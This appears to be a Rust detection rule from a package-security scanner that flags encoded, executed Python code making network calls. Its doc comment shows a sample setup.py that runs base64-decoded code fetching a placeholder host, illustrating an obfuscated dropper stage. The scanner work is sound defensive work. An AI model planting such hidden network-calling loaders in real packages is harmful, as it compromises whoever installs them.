//! ## What it detects
//!
//! Code that was unfolded from an encoding and is executed, and that uses the network.
//!
//! ## Why it is bad
//!
//! An address that code is decoded for is one that nobody is to see. It is the second stage of nearly every encoded
//! stealer and dropper since 2021.
//!
//! ## Innocent lookalikes
//!
//! Packages that carry their helper in an encoded text unpack templates and version code; what they carry has no
//! business with the network.
//!
//! ## Bad
//!
//! ```python setup.py
//! import base64
//! exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly94LmV4YW1wbGUuaW52YWxpZC8nKQ=='))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import base64
//! exec(base64.b64decode('cHJpbnQoInRoZSBwYXlsb2FkIik='))
//! ```

use fondaco_python::{Api, Language};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("hidden-network"),
    title: "hidden code uses the network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::CommandAndControl),
    weight: 1.9,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    let hidden = package
        .calls()
        .filter(|(unit, _)| unit.layer > 0 && unit.language == Language::Python && !unit.encoders.is_empty());
    for (unit, call) in hidden {
        let talks = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend | Api::Socket));
        if talks && call.trigger.is_some_and(Trigger::is_unasked) {
            hits.call(unit, call, format!("{} in code that was encoded", call.callee));
        }
    }
}
